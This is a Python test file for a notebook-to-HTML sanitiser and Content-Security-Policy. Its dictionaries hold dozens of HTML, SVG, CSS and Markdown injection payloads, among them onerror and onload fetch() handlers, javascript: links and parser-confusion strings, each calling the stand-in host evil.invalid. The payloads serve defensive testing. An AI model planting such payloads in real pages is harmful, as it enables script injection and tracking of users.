"""What a notebook's cells hold gets into a page only as what no page can be hurt by.

The ways to make a browser ask for something are those of HTML and SVG themselves; a
page with all of them as they are shows that the browser does ask.
"""

from __future__ import annotations

import base64
import hashlib
import re
from html import escape
from pathlib import Path
from typing import Any

import pytest
from browser_fixtures import asked_for, listening
from bs4 import BeautifulSoup
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from page_states import KINDS
from playwright.sync_api import Page

from parathed_lib import assess, assess_group
from parathed_lib.catalogue import load_catalogue
from parathed_lib.forms.evaluation.page.write import write_page
from parathed_lib.monitoring import monitor
from parathed_lib.pages.base.parts import Part
from parathed_lib.pages.changes import compare_paths
from parathed_lib.pages.changes.page import page as diff_page
from parathed_lib.pages.index import index_page
from parathed_lib.plan.overview import plan_of
from parathed_lib.programme import programme
from parathed_lib.report.notebook.export import LEFT_OUT, page_of
from parathed_lib.report.notebook.sanitise import clean_part, clean_text

AT = "http://evil.invalid"
STAMP = {"report": "assessment", "municipality": "183", "vintage": "2017", "files": "x"}
FACTS = {"title": "T", "name": "Ishøj Kommune", "vintage": "2017", "example": False}

# Each way to ask for something, with AT where it would ask.
WAYS = {
    "image": '<img src="AT/image">',
    "image set": '<img srcset="AT/set 2x">',
    "picture": '<picture><source srcset="AT/picture"><img></picture>',
    "style sheet": '<link rel="stylesheet" href="AT/sheet">',
    "preload": '<link rel="preload" as="image" href="AT/preload">',
    "prefetch": '<link rel="prefetch" href="AT/prefetch">',
    "icon": '<link rel="icon" href="AT/icon">',
    "import": '<style>@import "AT/import";</style>',
    "style": "<style>.crafted{background:url(AT/style)}</style><p class=crafted>x</p>",
    "font": "<style>@font-face{font-family:f;src:url(AT/font)}</style>"
    "<p style='font-family:f'>x</p>",
    "attribute": '<p style="background:url(AT/attribute)">x</p>',
    "escaped": '<p style="background:\\75rl(AT/escaped)">x</p>',
    "background": '<table background="AT/background"><tr><td>x</td></tr></table>',
    "refresh": '<meta http-equiv="refresh" content="0;url=AT/refresh">',
    "frame": '<iframe src="AT/frame"></iframe>',
    "frame's text": "<iframe srcdoc=\"<img src='AT/srcdoc'>\"></iframe>",
    "object": '<object data="AT/object"></object>',
    "embed": '<embed src="AT/embed">',
    "drawing's image": '<svg><image href="AT/svg" width="9" height="9"/></svg>',
    "drawing's old image": '<svg><image xlink:href="AT/old" width="9"/></svg>',
    "filter": '<svg><filter id="f"><feImage href="AT/fe"/></filter>'
    '<rect width="9" height="9" filter="url(#f)"/></svg>',
    "use": '<svg><use href="AT/use#a"/></svg>',
    "paint": '<svg><rect width="9" height="9" fill="url(AT/paint#a)"/></svg>',
    "clip": '<svg><rect width="9" height="9" clip-path="url(AT/clip#a)"/></svg>',
    "mask": '<svg><rect width="9" height="9" mask="url(AT/mask#a)"/></svg>',
    "animated": '<svg><image width="9" height="9"><set attributeName="href" '
    'to="AT/set"/></image></svg>',
    "foreign": '<svg><foreignObject><img src="AT/foreign"></foreignObject></svg>',
    "script": "<script src='AT/script'></script>",
    "script's own": "<script>new Image().src = 'AT/own'</script>",
    "handler": "<p onclick=\"x('AT')\">x</p><svg onload=\"fetch('AT/handler')\"></svg>",
    "broken image": "<img src=data:, onerror=\"fetch('AT/broken')\">",
    "form": '<form id="g" action="AT/form"><input name="a"></form>'
    "<script>document.getElementById('g').submit()</script>",
    "button": '<input type="image" src="AT/button">',
    "base": '<base href="AT/base/"><img src="x">',
    "audio": '<audio src="AT/audio" autoplay></audio>',
    "video": '<video poster="AT/poster" src="AT/video" autoplay></video>',
    "source": '<video autoplay><source src="AT/source"></video>',
    "link": '<a href="javascript:fetch(\'AT/link\')" ping="AT/ping">x</a>',
    "hidden in a title": '<svg><title><style><img src="AT/title"></style></title>',
    "hidden in noscript": '<noscript><p title="</noscript><img src=AT/noscript>">',
    "half": '<svg></p><style><a id="</style><img src=AT/half>">',
    "entity": '<img src="&#104;ttp://evil.invalid/entity">',
    "no protocol": '<img src="//evil.invalid/bare">',
}
WAYS = {name: html.replace("AT", AT) for name, html in WAYS.items()}
MARKDOWN = {
    "image": f"![x]({AT}/md)",
    "reference": f"![x][a]\n\n[a]: {AT}/ref",
    "heading": f"## Tal <img src={AT}/heading>",
    "formula": f"$\\includegraphics{{{AT}/tex}}$",
    "html": f"<img src={AT}/html>",
    "link": f"[x](javascript:fetch('{AT}'))",
}
TYPES = {
    "image/svg+xml": f'<svg><image href="{AT}/svg"/></svg>',
    "text/latex": f"\\includegraphics{{{AT}/tex}}",
    "application/javascript": f"fetch('{AT}/js')",
    "application/vnd.jupyter.widget-view+json": {"model_id": f"{AT}/widget"},
    "text/markdown": f"![x]({AT}/md)",
}


def shown(**data: Any) -> NotebookNode:
    output = new_output("display_data", data={k: v for k, v in data.items()})
    return new_code_cell("show()", outputs=[output])


def of_part(html: str, facts: dict | None = None) -> NotebookNode:
    """A cell that holds a part; anyone can compute its checksum."""
    return shown(**Part(html, facts, STAMP)._repr_mimebundle_())


def notebook(*cells: NotebookNode) -> NotebookNode:
    start = [new_markdown_cell("## Overblik"), of_part("<h1>Ishøj</h1>", FACTS)]
    return new_notebook(cells=[*start, *cells])


def crafted() -> NotebookNode:
    """A notebook with every way in every place."""
    facts = FACTS | {"name": f"</style><img src={AT}/name>", "kind": f"url({AT}/kind)"}
    facts |= {"title": f"</title><img src={AT}/title>", "vintage": f'"}} @import "{AT}'}
    cells = [new_markdown_cell("## Overblik"), of_part("<h1>Ishøj</h1>", facts)]
    for html in WAYS.values():
        cells += [of_part(html), shown(**{"text/html": html}), new_markdown_cell(html)]
    cells += [new_markdown_cell(text) for text in MARKDOWN.values()]
    cells += [shown(**{kind: data, "text/plain": "x"}) for kind, data in TYPES.items()]
    return new_notebook(cells=cells)


def loads(html: str) -> list[str]:
    """What could load in a page: not what is read, or followed by a click."""
    soup = BeautifulSoup(html, "html.parser")
    found = [tag.name for tag in soup.find_all(["script", "base", "iframe"])]
    icons = soup.select("link[rel=icon][href^='data:image/svg+xml,']")
    found += [tag.name for tag in soup.find_all("link") if tag not in icons]
    for tag in soup.find_all(True):
        attributes = dict(tag.attrs)
        if tag.name == "a" and str(attributes.get("href")).startswith("http"):
            attributes.pop("href")
        found += [
            f"{tag.name} {name}"
            for name, value in attributes.items()
            if "evil.invalid" in str(value) or name.startswith("on") or name == "style"
        ]
    return found


@pytest.mark.parametrize("name", WAYS)
@pytest.mark.parametrize("clean", [clean_part, clean_text])
def test_nothing_that_loads_is_let_through(name, clean):
    assert loads(clean(WAYS[name])) == []


@pytest.mark.parametrize(
    "cell", [of_part, lambda html: shown(**{"text/html": html}), new_markdown_cell]
)
def test_nothing_that_loads_gets_into_a_page(cell):
    assert loads(page_of(notebook(*map(cell, WAYS.values())))) == []


@pytest.mark.parametrize(
    "tag", ["script", "style", "template", "noscript", "iframe", "object"]
)
@pytest.mark.parametrize("clean", [clean_part, clean_text])
def test_what_is_no_text_leaves_none_behind(clean, tag):
    assert clean(f"<p>a</p><{tag}>b {{}}</{tag}>") == "<p>a</p>"


def test_plain_text_is_told_as_it_is():
    page = page_of(notebook(shown(**{"text/plain": "<b>1 & 2</b>"})))
    assert "<pre>&lt;b&gt;1 &amp; 2&lt;/b&gt;</pre>" in page


@pytest.mark.parametrize("name", MARKDOWN)
def test_markdown_loads_nothing(name):
    assert loads(page_of(notebook(new_markdown_cell(MARKDOWN[name])))) == []


@pytest.mark.parametrize("kind", TYPES)
def test_an_output_that_is_no_text_is_told_of_and_left_out(kind):
    page = page_of(notebook(shown(**{kind: TYPES[kind], "text/plain": "x"})))
    assert loads(page) == []
    assert LEFT_OUT in page
    assert "evil" not in page


def test_a_table_of_a_researcher_is_shown_without_its_looks():
    table = '<table border="1" class="dataframe"><tr><th>a</th></tr></table>'
    page = page_of(notebook(shown(**{"text/html": f"<style>x</style>{table}"})))
    assert "<table><tbody><tr><th>a</th></tr></tbody></table>" in page


def test_a_heading_and_the_facts_of_a_page_are_text():
    page = page_of(crafted())
    assert escape(MARKDOWN["heading"].removeprefix("## ")) in page
    assert "<title>&lt;/title&gt;&lt;img" in page
    assert page.count("<style>") == page.count("</style>") == 1


def test_control_characters_do_not_reach_a_page():
    bad = "\x00\x07\x1b[31m\x7f\x9b\u202e\u2066\u200f\ufeff"
    entity = "&#x1b;&#x202e;&#155;"
    part, text = of_part(f"<p>a{bad}{entity}b</p>"), new_markdown_cell(f"c{bad}d")
    plain = shown(**{"text/plain": f"e{bad}f"})
    page = page_of(notebook(part, text, plain))
    assert "a[31m" in page
    assert [c for c in page if c not in "\n\t" and not c.isprintable()] == [
        c for c in page if c == "\xa0"
    ]


@pytest.mark.slow
def test_the_parts_of_every_kind_of_page_come_through_whole(repository):
    root = repository
    subjects = {
        "assessment": [assess(who, "2017", root=root) for who in ("Ishøj", "Læsø")],
        "monitoring": [monitor("Ishøj", "2026", root=root)],
        "plan": [plan_of("Ishøj", root=root)],
        "programme": [programme(root, vintage="2026")],
        "area": [assess_group("084", "2026", root=root)],
    }
    assert subjects.keys() == KINDS.keys()
    for kind, found in subjects.items():
        page = KINDS[kind].parts
        for name in page.PARTS:
            for subject in found:
                part = getattr(page, name)(subject)
                assert part.stamp["report"] == kind
                assert tree(clean_part(part.html)) == tree(part.html), (kind, name)


def tree(html: str) -> list[tuple]:
    """Every element of some HTML with its attributes and its own text, in order."""
    return [
        (tag.name, tag.attrs, tag.find_all(string=True, recursive=False))
        for tag in BeautifulSoup(html, "html.parser").find_all(True)
    ]


# The policy


@pytest.fixture(scope="module")
def written(reports, tmp_path_factory) -> dict[str, Path]:
    """A page of each kind that is not made of a notebook, and one that is."""
    catalogue = load_catalogue()
    ours = reports["Ishøj 2017"].path
    pages = {
        "index": index_page(ours.parent, "2017", catalogue),
        "form": write_page({"municipality": "183", "round": "2026"}, catalogue),
        "changes": diff_page(compare_paths(ours, reports["Ishøj 2026"].path)),
        "report": ours.read_text("utf-8"),
        "crafted": page_of(crafted()),
    }
    folder = tmp_path_factory.mktemp("pages")
    for name, html in pages.items():
        (folder / f"{name}.html").write_text(html, "utf-8")
    return {name: folder / f"{name}.html" for name in pages}


@pytest.mark.slow
@pytest.mark.parametrize("name", ["index", "form", "changes", "report", "crafted"])
def test_a_page_allows_its_own_style_and_script_alone(written, name):
    soup = BeautifulSoup(written[name].read_text("utf-8"), "html.parser")
    [policy] = soup.find_all("meta", {"http-equiv": "Content-Security-Policy"})
    assert policy.find_previous(["style", "script", "link"]) is None
    rules = dict(rule.strip().split(" ", 1) for rule in policy["content"].split(";"))
    runs = [s for s in soup.find_all("script") if s.get("type") != "application/json"]
    expected = {"default-src": "'none'", "base-uri": "'none'", "form-action": "'none'"}
    expected |= {"style-src": " ".join(checksum(s) for s in soup.find_all("style"))}
    expected |= {"script-src": " ".join(map(checksum, runs))} if runs else {}
    expected |= {"font-src": "data:"}
    expected |= {"img-src": "data:"} if name != "form" else {}
    assert rules == expected
    assert not soup.find_all(style=True)


def checksum(tag: Any) -> str:
    digest = hashlib.sha256(tag.string.encode("utf-8")).digest()
    return f"'sha256-{base64.b64encode(digest).decode('ascii')}'"


# In Chromium


def asked(page: Page, path: Path) -> tuple[set[str], list[str]]:
    """What a page asks for besides itself, and what it complains of."""
    complaints: list[str] = []
    heard = listening(page, console=lambda message: complaints.append(message.text))
    with asked_for(page) as asked, heard:
        page.goto(path.as_uri(), wait_until="networkidle")
    others = {url for url in asked if not url.startswith("data:")} - {path.as_uri()}
    return others, complaints


in_browser = [pytest.mark.slow, pytest.mark.browser]


@pytest.mark.parametrize(
    "name", [pytest.param(n, marks=in_browser) for n in ("index", "form", "changes")]
)
def test_a_page_of_ours_asks_for_nothing_and_breaks_no_rule_of_its_own(
    page, written, name
):
    assert asked(page, written[name]) == (set(), [])


@pytest.mark.slow
@pytest.mark.browser
def test_a_page_of_a_crafted_notebook_asks_for_nothing(page, written):
    assert asked(page, written["crafted"]) == (set(), [])


@pytest.mark.slow
@pytest.mark.browser
def test_it_asks_for_nothing_without_the_policy_either(page, written, tmp_path):
    html = written["crafted"].read_text("utf-8")
    bare = re.sub('<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
    assert bare != html
    (tmp_path / "bare.html").write_text(bare, "utf-8")
    assert asked(page, tmp_path / "bare.html") == (set(), [])


@pytest.mark.slow
@pytest.mark.browser
def test_the_browser_does_ask_where_nothing_is_cleaned(page, tmp_path):
    raw = "".join(WAYS[n] for n in WAYS if n not in ("refresh", "form", "base", "half"))
    (tmp_path / "raw.html").write_text(f"<!DOCTYPE html><body>{raw}", "utf-8")
    found, _ = asked(page, tmp_path / "raw.html")
    assert len(found) >= 20
